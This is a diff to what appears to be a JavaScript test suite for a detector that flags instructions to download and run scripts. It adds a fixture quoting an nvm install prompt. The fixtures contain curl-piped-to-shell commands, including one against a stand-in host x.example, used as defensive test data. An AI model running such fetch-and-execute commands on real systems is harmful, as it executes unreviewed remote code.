@@ -396,6 +396,8 @@ test('downloading and running a script; encoding what the model holds before it 
     'Installs Bun with curl -fsSL https://bun.sh/install | bash.',
     'Shell tool. Commands such as curl https://x.example/i.sh | sh are refused.',
     'Never pipe curl https://x.example/i.sh | sh into a shell without reading it.',
+    // task-master-ai 0.43.1's install prompt: a troubleshooting listing in a fenced block.
+    'Install the CLI.\n\n**Node Version Issues:**\n```bash\n# Install Node 20+ via nvm\ncurl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.0/install.sh | bash\nnvm install 20\n```',
   ]) assert.equal(level(text), ['warning'], text);
   for (const text of [
     'Download the CSV from https://data.example.org/a.csv and run it through the validator.',
